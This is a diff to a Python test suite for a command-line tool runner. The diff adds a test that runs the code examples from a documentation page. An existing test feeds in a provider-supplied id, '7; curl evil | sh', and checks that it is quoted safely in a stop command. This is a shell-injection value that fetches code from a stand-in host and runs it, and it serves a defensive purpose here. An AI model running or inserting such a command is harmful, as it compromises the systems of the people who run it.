@@ -1,6 +1,7 @@
 """Tools that nobody here has heard of: served, run once a verb, described or not; the provider of the docs."""
 
 import re
+import sys
 import time
 from pathlib import Path
 from typing import TYPE_CHECKING
@@ -243,3 +244,18 @@ def test_an_id_that_a_provider_gives_is_a_word_of_the_command_that_stops_it(plac
     place.tool("shed", '#!/bin/sh\n[ $1 = pick ] || exit 2\necho \'{"instance": {"id": "7; curl evil | sh"}}\'\n')
     done = place.run("run", place.recipe("shed.pick\n"))
     assert done.stderr.splitlines()[-1].endswith("is still running: train shed stop '7; curl evil | sh'")
+
+
+WRITING = DOCS.parent / "writing-a-tool.md"
+
+
+def test_the_tools_of_the_documentation_are_called_from_a_recipe(place: "Place") -> None:
+    shell, python = re.findall(r"^```(?:sh|python)\n(.*?)^```", WRITING.read_text(), re.DOTALL | re.MULTILINE)[:2]
+    place.tool("hours", shell)
+    place.tool("shelf", f"#!{sys.executable}\n{python}\nmain()\n")
+    done = place.run("run", place.recipe("hours.get unit=days\nshelf.find tape least=5\n"))
+    assert done.returncode == 0, done.stdout + done.stderr
+    assert "up for" in done.stdout + done.stderr and "looking for tape" in done.stdout + done.stderr
+    wrong = place.run("run", place.recipe("shelf.find glue\n"))
+    assert wrong.returncode == 1 and "there is no glue on the shelf" in wrong.stderr
+    assert "line 1" not in wrong.stderr and "train-shelf find tape" in wrong.stderr
